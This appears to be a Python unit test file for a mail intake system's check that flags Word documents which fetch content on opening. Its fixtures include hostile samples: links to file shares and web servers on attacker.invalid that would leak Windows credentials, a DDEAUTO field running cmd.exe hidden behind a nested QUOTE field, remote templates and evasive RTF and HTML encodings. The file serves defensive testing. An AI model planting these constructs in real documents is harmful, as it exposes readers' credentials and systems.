"""Unit tests for `mailbot.ingest.document.active`: what makes Word fetch something on opening.

A linked picture, a field that includes a file, or a part Word converts on opening (an
altChunk in RTF, HTML or MHT) sends Word to a web server or a file share as the document
opens, and a share gets the reader's Windows credentials. Each test takes the official sample
form and adds with `zipfile` what Word writes for one such thing, then reads the private
one-line detail (`ooxml._check`) to prove which check found it. Ordinary links, embedded
pictures and fields that fetch nothing must pass.
"""

from __future__ import annotations

import time

import pytest

from mailbot.codes import describe, rule
from mailbot.ingest.document import active, ooxml
from mailbot.intake.stages import OpenedForm, open_document
from mailbot.models import DocumentLimits
from tests import hostile_active
from tests import hostile_corpus as corpus
from tests.unit.test_active import FIELD, as_attachment, instruction_runs, relationship, with_body

LIMITS = DocumentLimits()
ACTIVE = "active_content"
UNREADABLE = "unreadable_document"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHARE = "\\\\attacker.invalid\\share"


def found(data: bytes) -> tuple[str, str] | None:
    return ooxml._check(data, LIMITS)


def with_rels(kind_uri: str, target: str, part: str = "word/_rels/header1.xml.rels") -> bytes:
    rels = relationship("x", target).replace(f"{REL}/x".encode(), kind_uri.encode())
    return corpus.add_part(corpus.base_docx(), part, rels)


def with_chunk(data: bytes, content_type: str, name: str = "chunk.bin") -> bytes:
    """The sample form with an altChunk part of this type (its body refers to it)."""
    base = corpus.base_docx()
    parts = dict(corpus.parts_of(base))
    types = parts["[Content_Types].xml"].replace(
        b"</Types>",
        f'<Override PartName="/word/{name}" ContentType="{content_type}"/></Types>'.encode(),
    )
    rels = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId95" Type="{REL}/aFChunk" Target="{name}"/></Relationships>'.encode(),
    )
    data_with = corpus.replace_part(base, "[Content_Types].xml", types)
    data_with = corpus.replace_part(data_with, "word/_rels/document.xml.rels", rels)
    document = with_body('<w:altChunk r:id="rId95"/>')
    data_with = corpus.replace_part(
        data_with, "word/document.xml", dict(corpus.parts_of(document))["word/document.xml"]
    )
    return corpus.add_part(data_with, f"word/{name}", data)


def in_rtf(detail: str) -> tuple[str, str]:
    return ACTIVE, f"{detail} in an imported RTF part (altChunk)"


def in_html(detail: str) -> tuple[str, str]:
    return ACTIVE, f"{detail} in an imported HTML part (altChunk)"


# -- external relationships --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "target", "expected"),
    [
        ("image", f"{SHARE}\\logo.png", "linked image (external image relationship)"),
        (
            "image",
            "file://attacker.invalid/share/logo.png",
            "linked image (external image relationship)",
        ),
        (
            "image",
            "https://attacker.invalid/pixel.png",
            "linked image (external image relationship)",
        ),
        ("image", "file:///C:/Pictures/logo.png", "linked image (external image relationship)"),
        (
            "mailMergeSource",
            f"{SHARE}\\victims.xlsx",
            "linked content (external mailmergesource relationship)",
        ),
        ("video", "https://attacker.invalid/v.mp4", "linked content (external video relationship)"),
    ],
)
def test_every_external_relationship_but_a_hyperlink_is_active(
    kind: str, target: str, expected: str
) -> None:
    """GIVEN the form whose header relationships link a picture (on a share, a file:// share,
    a web server, even the author's own disk), a mail-merge source or a video
    WHEN inspected
    THEN active_content, naming the relationship: Word loads each when the page is shown."""
    assert found(with_rels(f"{REL}/{kind}", target)) == (ACTIVE, expected)


@pytest.mark.parametrize(
    ("kind_uri", "target", "mode"),
    [
        (f"{REL}/hyperlink", f"{SHARE}\\guide.docx", ' TargetMode="External"'),
        (
            "http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink",
            "https://www.safelives.org.uk/",
            ' TargetMode="External"',
        ),
        (f"{REL}/image", "media/image1.png", ""),  # an embedded picture: a part of the package
    ],
)
def test_hyperlinks_and_embedded_pictures_are_accepted(
    kind_uri: str, target: str, mode: str
) -> None:
    """GIVEN hyperlinks (transitional and strict, even to a share) and an embedded picture
    WHEN inspected
    THEN it is safe: Word follows a hyperlink only when it is clicked, and an embedded picture
    is inside the document."""
    rels = relationship("x", target, mode).replace(f"{REL}/x".encode(), kind_uri.encode())
    data = corpus.add_part(corpus.base_docx(), "word/_rels/header1.xml.rels", rels)
    assert found(data) is None


# -- fields ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("runs", "expected"),
    [
        ((' INCLUDEPICTURE "\\\\\\\\attacker.invalid\\\\a.png" \\d ',), "INCLUDEPICTURE field"),
        ((" INCLUDE", "PICTURE ", '"http://attacker.invalid/a.png"'), "INCLUDEPICTURE field"),
        ((' includetext "\\\\\\\\attacker.invalid\\\\note.docx" ',), "INCLUDETEXT field"),
        ((' LINK Excel.Sheet.12 "\\\\\\\\attacker.invalid\\\\r.xlsx" "" \\a ',), "LINK field"),
        ((' INCLUDE "\\\\\\\\attacker.invalid\\\\note.docx" ',), "INCLUDE field"),
        ((' IMPORT "\\\\\\\\attacker.invalid\\\\a.png" ',), "IMPORT field"),
        ((' DATABASE \\d "\\\\\\\\attacker.invalid\\\\db.mdb" \\s "select *" ',), "DATABASE field"),
        (('INCLUDEPICTURE"\\\\\\\\attacker.invalid\\\\a.png"',), "INCLUDEPICTURE field"),
        ((' "INCLUDEPICTURE" "\\\\\\\\attacker.invalid\\\\a.png" ',), "INCLUDEPICTURE field"),
    ],
)
def test_fields_that_fetch(runs: tuple[str, ...], expected: str) -> None:
    """GIVEN a field that reads a picture, a document, a workbook or a database: split over
    runs, in lower case, by an old name, glued to its argument or quoted
    WHEN inspected
    THEN active_content naming the field: Word reads its name up to the first non-letter."""
    assert found(with_body(FIELD.format(runs=instruction_runs(*runs)))) == (ACTIVE, expected)


def test_a_fetching_simple_field() -> None:
    """GIVEN an INCLUDEPICTURE simple field (w:fldSimple) whose path is written with
    character references
    WHEN inspected
    THEN active_content."""
    simple = (
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;&#92;&#92;attacker.invalid'
        '&#92;a.png&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    )
    assert found(with_body(simple)) == (ACTIVE, "INCLUDEPICTURE field")


BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)


def runs(text: str) -> str:
    return instruction_runs(text)


def test_a_field_whose_name_another_field_computes() -> None:
    """GIVEN a field whose first word is a nested QUOTE field spelling DDEAUTO in character
    codes (the obfuscation seen in DDE attacks)
    WHEN inspected
    THEN active_content: what the outer field does is unknown until Word runs it."""
    markup = (
        f"<w:p>{BEGIN}{BEGIN}{runs(' QUOTE 68 68 69 65 85 84 79 ')}{SEPARATE}"
        f"<w:r><w:t>DDEAUTO</w:t></w:r>{END}{runs(' cmd.exe ')}{END}</w:p>"
    )
    assert found(with_body(markup)) == (ACTIVE, "field whose name another field computes")


@pytest.mark.parametrize(
    "markup",
    [
        f"<w:p>{BEGIN}{runs(' IF ')}{BEGIN}{runs(' MERGEFIELD Area ')}{END}"
        f"{runs(' = Dudley yes no ')}{END}</w:p>",
        f"<w:p>{BEGIN}{runs(' HYPERLINK https://x.invalid ')}{SEPARATE}{BEGIN}{runs(' PAGE ')}"
        f"{END}{END}</w:p>",
        f"<w:p>{BEGIN}{runs(' PAGE ')}{END}{BEGIN}{runs(' NUMPAGES ')}{END}</w:p>",
        "<w:p><w:r><w:t>INCLUDEPICTURE LINK INCLUDETEXT in the text</w:t></w:r></w:p>",
    ],
)
def test_fields_that_fetch_nothing_are_accepted(markup: str) -> None:
    """GIVEN a field nested after its parent's name, one nested in a result, side by side
    fields, and the names of fetching fields in ordinary text
    WHEN inspected
    THEN it is safe."""
    assert found(with_body(markup)) is None


# -- altChunks: RTF ----------------------------------------------------------------------------

RTF = "application/rtf"


@pytest.mark.parametrize(
    ("rtf", "expected"),
    [
        (
            rb'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\h\\\\a.png" \\d}{\fldrslt }}}',
            in_rtf("INCLUDEPICTURE field"),
        ),
        (rb"{\rtf1{\field{\*\fldinst {\b INCLUDE}{\i TEXT} x}}}", in_rtf("INCLUDETEXT field")),
        (rb"{\rtf1{\field{\*\fldinst \'49NCLUDEPICTURE x}}}", in_rtf("INCLUDEPICTURE field")),
        (rb"{\rtf1\uc1{\field{\*\fldinst \u73?NCLUDEPICTURE x}}}", in_rtf("INCLUDEPICTURE field")),
        (rb"{\rtf1{\field{\*\fldinst \u76 ?INK Excel.Sheet.12 x}}}", in_rtf("LINK field")),
        (rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\cmd.exe}}}", in_rtf("DDE field")),
        (
            rb"{\rtf1{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}}} cmd}}}",
            in_rtf("field whose name another field computes"),
        ),
        (rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE x", in_rtf("INCLUDEPICTURE field")),
        (
            rb"{\rtf1{\object\objautlink{\*\objclass Excel.Sheet.12}{\*\objdata 0105}}}",
            in_rtf("linked OLE object"),
        ),
        (rb"{\rtf1{\object\objlink\objupdate{\*\objdata 0105}}}", in_rtf("linked OLE object")),
        (
            rb"{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105}}}",
            in_rtf("OLE object"),
        ),
        (rb"{\rtf1{\*\template \\\\attacker.invalid\\share\\t.dotm}x}", in_rtf("remote template")),
        (
            rb"{\rtf1{\shp{\*\shpinst{\sp{\sn pibName}{\sv \\\\h\\a.png}}}}}",
            in_rtf("linked picture (shape)"),
        ),
    ],
    ids=[
        "includepicture",
        "split-over-groups",
        "hex-escape",
        "unicode-escape",
        "unicode-escape-uc",
        "dde",
        "computed-name",
        "unclosed",
        "objautlink",
        "objlink",
        "embedded-object",
        "template",
        "shape-pibname",
    ],
)
def test_rtf_altchunks_that_fetch_or_run(rtf: bytes, expected: tuple[str, str]) -> None:
    """GIVEN an RTF altChunk with a fetching or DDE field (plain, split over groups, with
    escaped letters, a computed name, left unclosed), an object (linked or embedded), a remote
    template or a shape's linked picture
    WHEN inspected
    THEN active_content, read as Word reads RTF."""
    assert found(with_chunk(rtf, RTF, "note.rtf")) == expected


@pytest.mark.parametrize(
    "rtf",
    [
        rb'{\rtf1{\field{\*\fldinst HYPERLINK "https://x.invalid/"}{\fldrslt x}}\par}',
        rb"{\rtf1 INCLUDEPICTURE \\objautlink LINK {\b objlink} \par}",
        rb"{\rtf1{\*\template C:\\Users\\jo\\Templates\\MARAC.dotx}x}",
        rb"{\rtf1{\pict\bin12 \objautlink{}x}}",
        rb"{\rtf1{\shp{\*\shpinst{\sp{\sn fillColor}{\sv 255}}}}}",
    ],
    ids=["hyperlink", "words-in-text", "local-template", "binary-data", "shape-property"],
)
def test_rtf_altchunks_that_fetch_nothing_are_accepted(rtf: bytes) -> None:
    """GIVEN RTF altChunks with a hyperlink field, fetching names as text or escaped, the
    author's own template, binary picture data that looks like a control word, an ordinary
    shape property
    WHEN inspected
    THEN it is safe."""
    assert found(with_chunk(rtf, RTF, "note.rtf")) is None


def test_rtf_and_html_are_read_whatever_their_declared_type() -> None:
    """GIVEN an RTF part declared as plain text or as bytes, an HTML part declared as XML
    WHEN inspected
    THEN their bytes say what they are, and they are read as that."""
    rtf = rb"{\rtf1{\field{\*\fldinst INCLUDETEXT x}}}"
    assert found(with_chunk(rtf, "text/plain", "note.txt")) == in_rtf("INCLUDETEXT field")
    assert found(with_chunk(rtf, "application/octet-stream")) == in_rtf("INCLUDETEXT field")
    html = b'<html><body><img src="http://attacker.invalid/a.png"></body></html>'
    assert found(with_chunk(html, "application/xml", "note.xml")) == in_html("linked src of <img>")


# -- altChunks: HTML and MHT -------------------------------------------------------------------

HTML = "text/html"


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<img src="&#92;&#92;attacker.invalid&#92;a.png">', "linked src of <img>"),
        ("<IMG SRC=' http://attacker.invalid/a.png'>", "linked src of <img>"),
        ('<img src="file://attacker.invalid/share/a.png">', "linked src of <img>"),
        ('<img src="//attacker.invalid/a.png">', "linked src of <img>"),
        ('<img srcset="http://attacker.invalid/a.png 2x">', "linked srcset of <img>"),
        ('<link rel="stylesheet" href="https://attacker.invalid/s.css">', "linked href of <link>"),
        ('<base href="\\\\attacker.invalid\\share\\"><img src="a.png">', "linked href of <base>"),
        (
            '<table background="http://attacker.invalid/b.png"><tr><td>x</td></tr></table>',
            "linked background of <table>",
        ),
        (
            "<p style=\"background:url('\\\\\\\\attacker.invalid\\\\b.png')\">x</p>",
            "linked style resource (url() or @import)",
        ),
        (
            "<style>@import 'http://attacker.invalid/s.css';</style>",
            "linked style resource (url() or @import)",
        ),
        ('<iframe src="a.htm"></iframe>', "embedded object or frame (<iframe>)"),
        ('<object data="x.bin"></object>', "embedded object or frame (<object>)"),
        (
            '<!--[if gte vml 1]><v:shape><v:imagedata src="\\\\attacker.invalid\\a.png"/>'
            "</v:shape><![endif]-->",
            "linked src of <imagedata>",
        ),
        (
            "<!--[if supportFields]><span style='mso-element:field-begin'></span> INCLUDETEXT"
            " &quot;x.docx&quot;<span style='mso-element:field-separator'></span><![endif]-->",
            "INCLUDETEXT field",
        ),
        (
            "<span style='mso-element: field-begin'></span>LINK x<span"
            " style='mso-element:field-end'></span>",
            "LINK field",
        ),
    ],
    ids=[
        "img-unc-references",
        "img-http",
        "img-file",
        "img-protocol-relative",
        "srcset",
        "stylesheet",
        "base",
        "background",
        "style-url",
        "style-import",
        "iframe",
        "object",
        "vml-in-conditional-comment",
        "word-field-markup",
        "field-markup-uncommented",
    ],
)
def test_html_altchunks_that_fetch(html: str, expected: str) -> None:
    """GIVEN an HTML altChunk with a picture, stylesheet, base, background or style resource
    elsewhere, a frame or object, a linked VML picture in a conditional comment, or Word's
    field markup for a fetching field
    WHEN inspected
    THEN active_content, read as an HTML parser reads it (references decoded, any case)."""
    data = f"<html><body><p>Note</p>{html}</body></html>".encode()
    assert found(with_chunk(data, HTML, "note.htm")) == in_html(expected)


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://www.safelives.org.uk/">SafeLives</a>',
        '<a href="\\\\intranet\\share\\guide.docx">guide</a><area href="http://x.invalid/">',
        '<img src="note_files/image001.png"><img src="data:image/png;base64,iVBORw0KGgo=">',
        '<link rel="File-List" href="note_files/filelist.xml"><img src="#x">',
        "<p>INCLUDEPICTURE \\\\attacker.invalid\\a.png, url(http://x) in words</p>",
        "<!--[if supportFields]><span style='mso-element:field-begin'></span> PAGE"
        " <span style='mso-element:field-separator'></span><![endif]-->1",
    ],
    ids=[
        "hyperlink",
        "share-hyperlink",
        "relative-and-data",
        "relative-link",
        "words",
        "page-field",
    ],
)
def test_html_altchunks_that_fetch_nothing_are_accepted(html: str) -> None:
    """GIVEN HTML altChunks with hyperlinks (a, area), pictures by relative name or embedded
    as data, Word's relative file list, fetching words as text, a page-number field
    WHEN inspected
    THEN it is safe."""
    data = f"<html><body><p>Note</p>{html}</body></html>".encode()
    assert found(with_chunk(data, HTML, "note.htm")) is None


def test_html_in_utf16_is_read_in_utf16() -> None:
    """GIVEN an HTML altChunk in UTF-16, with and without a byte order mark
    WHEN inspected
    THEN its picture on a share is found: the markup is decoded before it is read."""
    html = '<html><body><img src="\\\\attacker.invalid\\a.png"></body></html>'
    for data in (html.encode("utf-16"), html.encode("utf-16-le"), html.encode("utf-16-be")):
        assert found(with_chunk(data, HTML, "note.htm")) == in_html("linked src of <img>")


@pytest.mark.parametrize("charset", ["utf-7", "ibm037", "iso-2022-jp", "utf-32"])
def test_html_in_an_encoding_that_hides_markup_is_unreadable(charset: str) -> None:
    """GIVEN an HTML altChunk declaring an encoding in which markup need not be ASCII
    (UTF-7 writes < as +ADw-)
    WHEN inspected
    THEN unreadable: what the check reads and what Word reads could differ."""
    data = f'<html><head><meta charset="{charset}"></head><body>x</body></html>'.encode()
    assert found(with_chunk(data, HTML, "note.htm")) == (
        UNREADABLE,
        "imported HTML part (altChunk) in an unexpected encoding",
    )


def _mht(html: bytes, encoding: str = "quoted-printable", location: str = "") -> bytes:
    return (
        b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
        b"--b\r\nContent-Type: text/html; charset=us-ascii\r\n"
        b"Content-Transfer-Encoding: " + encoding.encode() + b"\r\n\r\n" + html + b"\r\n"
        b"--b\r\nContent-Location: " + location.encode() + b"\r\nContent-Type: image/png\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--b--\r\n"
    )


def test_mht_altchunks() -> None:
    """GIVEN MHT altChunks: a picture elsewhere in quoted-printable (a soft line break in the
    middle of the address) and in base64, and a picture the archive holds itself (named by
    its Content-Location, as Word saves it)
    WHEN inspected
    THEN the first two are active_content, the third is safe."""
    import base64

    expected = (ACTIVE, "linked src of <img> in an imported MHT part (altChunk)")
    quoted = _mht(b'<img src=3D"\\\\attacker.inva=\r\nlid\\a.png">')
    assert found(with_chunk(quoted, "message/rfc822", "note.mht")) == expected
    encoded = _mht(base64.b64encode(b'<img src="http://attacker.invalid/a.png">'), "base64")
    assert found(with_chunk(encoded, "multipart/related", "note.mht")) == expected
    own = _mht(b'<img src=3D"file:///C:/note_files/a.png">', location="file:///C:/note_files/a.png")
    assert found(with_chunk(own, "message/rfc822", "note.mht")) is None


def test_a_word_package_as_an_altchunk_is_refused_whole() -> None:
    """GIVEN an altChunk that is a whole Word document (and a template)
    WHEN inspected
    THEN active_content: the package inside is not opened, so what it links to is unknown."""
    for kind in ("document", "template"):
        content_type = f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}"
        data = with_chunk(corpus.minimal_docx(), content_type, "part.docx")
        assert found(data) == (
            ACTIVE,
            "Word document imported whole (altChunk), not checked inside",
        )


# -- bounds and cost ---------------------------------------------------------------------------


def test_altchunks_past_their_budget_are_unreadable(monkeypatch: pytest.MonkeyPatch) -> None:
    """GIVEN altChunks larger in total than the budget for reading them
    WHEN inspected
    THEN unreadable: what is not checked is not passed."""
    monkeypatch.setattr(active, "MAX_CHUNK_BYTES", 1000)
    data = with_chunk(b"<html><body>" + b"<p>x</p>" * 200 + b"</body></html>", HTML, "n.htm")
    assert found(data) == (UNREADABLE, "imported parts (altChunks) too large to check")


def test_rtf_nested_too_deeply_is_unreadable() -> None:
    """GIVEN an RTF altChunk with 5,000 groups inside one another
    WHEN inspected
    THEN unreadable, quickly: the group stack is bounded."""
    data = with_chunk(b"{\\rtf1" + b"{" * 5000 + b"}" * 5000 + b"}", RTF, "n.rtf")
    assert found(data) == (UNREADABLE, "imported RTF part (altChunk) nested too deeply to check")


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    "data",
    [
        b"{\\rtf1{\\*\\fldinst " + b"{a}" * (1 << 20) + b"}}",  # a token per byte, all kept
        b"<html><body>" + b"<!--<b>" * 500_000,  # every comment read again as markup
        b"<html><body>" + b"<img src=a>" * 300_000,
    ],
    ids=["rtf-tokens", "html-comments", "html-elements"],
)
def test_the_costliest_altchunks_are_read_in_seconds(data: bytes) -> None:
    """GIVEN about 3.5 MB of the costliest RTF and HTML an altChunk may hold
    WHEN inspected
    THEN the answer comes within a few seconds (10 s on this shared machine)."""
    name, kind = ("n.rtf", RTF) if data.startswith(b"{") else ("n.htm", HTML)
    package = with_chunk(data, kind, name)
    limits = DocumentLimits(max_compression_ratio=100_000)  # let the repetition through
    started = time.perf_counter()
    assert ooxml._check(package, limits) is None
    assert time.perf_counter() - started < 10


def test_an_ordinary_referral_has_no_altchunk_to_read(monkeypatch: pytest.MonkeyPatch) -> None:
    """GIVEN the official sample form and a generated referral
    WHEN inspected
    THEN no part is read as an altChunk: the check costs an ordinary referral nothing more."""
    read: list[str] = []
    real = active.in_chunk

    def counting(archive: object, info: object, content_type: str) -> active.Found:
        read.append(getattr(info, "filename", ""))
        return real(archive, info, content_type)  # type: ignore[arg-type]

    monkeypatch.setattr(active, "in_chunk", counting)
    for form in (corpus.base_docx(), corpus.referral_docx(611)):
        assert found(form) is None
    assert read == []


# -- the corpus controls and the reason --------------------------------------------------------


@pytest.mark.parametrize(
    "builder",
    [
        hostile_active.altchunk_html_links_only,
        hostile_active.altchunk_rtf_links_only,
        hostile_active.external_hyperlinks,
    ],
)
def test_controls_are_read_as_forms(builder: object) -> None:
    """GIVEN the corpus controls: altChunks with links only, a form with hyperlinks
    WHEN the pipeline opens them
    THEN each is read as a form."""
    data = builder()  # type: ignore[operator]
    assert isinstance(open_document(as_attachment(data), [], LIMITS), OpenedForm)


def test_the_reason_names_linked_pictures_and_fields() -> None:
    """GIVEN the active_content code
    WHEN explained to a referrer
    THEN the sentence and the rule name linked pictures and fields, so the referrer knows
    what to take out."""
    assert "picture" in describe(ACTIVE)
    assert "field" in describe(ACTIVE)
    assert "linked pictures" in rule(ACTIVE)
